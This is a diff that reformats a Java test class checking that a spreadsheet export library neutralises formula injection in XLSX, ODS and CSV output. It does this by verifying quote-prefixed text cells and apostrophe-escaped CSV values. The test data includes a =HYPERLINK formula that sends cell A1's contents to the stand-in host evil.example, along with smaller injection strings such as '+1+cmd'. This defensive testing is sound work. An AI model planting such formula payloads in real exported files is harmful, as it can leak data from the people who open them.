@@ -26,9 +26,11 @@ class FormulaInjectionTest {
     static final String PAYLOAD = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for details\")";
 
     static DatasetDocument crafted() {
-        String yaml = SourceFiles.dataset("crafted").replace("{name: sex, type: string,",
-                "{name: sex, type: string, description: '" + PAYLOAD.replace("'", "''") + "', label: '+1+cmd',"
-                        + " qualityNotes: '@SUM(1,2)', evidence: '-2+3',");
+        String yaml = SourceFiles.dataset("crafted")
+                .replace(
+                        "{name: sex, type: string,",
+                        "{name: sex, type: string, description: '" + PAYLOAD.replace("'", "''") + "', label: '+1+cmd',"
+                                + " qualityNotes: '@SUM(1,2)', evidence: '-2+3',");
         return DocumentParser.dataset(yaml.getBytes(StandardCharsets.UTF_8), "crafted.yaml");
     }
 
@@ -42,11 +44,17 @@ class FormulaInjectionTest {
             assertThat(description.getCellType()).isEqualTo(CellType.STRING);
             assertThat(description.getStringCellValue()).isEqualTo(PAYLOAD);
             assertThat(description.getCellStyle().getQuotePrefixed()).isTrue();
-            assertThat(workbook.getSheet("Variables").getRow(3).getCell(2).getCellStyle().getQuotePrefixed()).isTrue();
+            assertThat(workbook.getSheet("Variables")
+                            .getRow(3)
+                            .getCell(2)
+                            .getCellStyle()
+                            .getQuotePrefixed())
+                    .isTrue();
             for (var sheet : workbook) {
                 for (Row row : sheet) {
                     for (Cell cell : row) {
-                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress())
+                        assertThat(cell.getCellType())
+                                .as("%s!%s", sheet.getSheetName(), cell.getAddress())
                                 .isNotEqualTo(CellType.FORMULA);
                     }
                 }
@@ -58,7 +66,9 @@ class FormulaInjectionTest {
     void odsCellsAreStringValuesWithoutFormulas() throws IOException {
         byte[] ods = OdsWriter.write(DictionarySheets.dataset(crafted()), TITLE);
         String content = entry(ods, "content.xml");
-        assertThat(content).doesNotContain("table:formula").contains("<text:p>=HYPERLINK(\"https://evil.example/?\"&amp;A1");
+        assertThat(content)
+                .doesNotContain("table:formula")
+                .contains("<text:p>=HYPERLINK(\"https://evil.example/?\"&amp;A1");
         SheetContent.Workbook read = WorkbookReader.read(ods, "crafted.ods", Workbooks.LIMITS, () -> false);
         assertThat(read.problems()).isEmpty();
         assertThat(read.sheet("Variables").orElseThrow().rows().get(3).cell(3)).isEqualTo(PAYLOAD);
@@ -66,11 +76,16 @@ class FormulaInjectionTest {
 
     @Test
     void csvCellsArePrefixedWithAnApostrophe() {
-        Sheet variables = DictionarySheets.dataset(crafted()).stream().filter(s -> s.name().equals("Variables"))
-                .findFirst().orElseThrow();
+        Sheet variables = DictionarySheets.dataset(crafted()).stream()
+                .filter(s -> s.name().equals("Variables"))
+                .findFirst()
+                .orElseThrow();
         String csv = new String(CsvWriter.write(variables), StandardCharsets.UTF_8);
-        assertThat(csv).contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click for details\"\")\"")
-                .contains("\"'+1+cmd\"").contains("\"'@SUM(1,2)\"").contains("\"'-2+3\"");
+        assertThat(csv)
+                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click for details\"\")\"")
+                .contains("\"'+1+cmd\"")
+                .contains("\"'@SUM(1,2)\"")
+                .contains("\"'-2+3\"");
         assertThat(CellText.forCsv("\tcmd")).isEqualTo("'\tcmd");
         assertThat(CellText.forCsv("plain")).isEqualTo("plain");
     }
@@ -82,7 +97,8 @@ class FormulaInjectionTest {
         assertThat(CellText.forCsv(text)).isEqualTo("'" + text);
         // XLSX: a quote-prefixed (literal) text cell
         Sheet sheet = new Sheet("S", List.of(Sheet.Column.of("Header", 20)), List.of(List.of(text)));
-        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(XlsxWriter.write(List.of(sheet), TITLE)))) {
+        try (XSSFWorkbook workbook =
+                new XSSFWorkbook(new ByteArrayInputStream(XlsxWriter.write(List.of(sheet), TITLE)))) {
             Cell cell = workbook.getSheet("S").getRow(XlsxWriter.HEADER_ROWS).getCell(0);
             assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
             assertThat(cell.getStringCellValue()).isEqualTo(text);
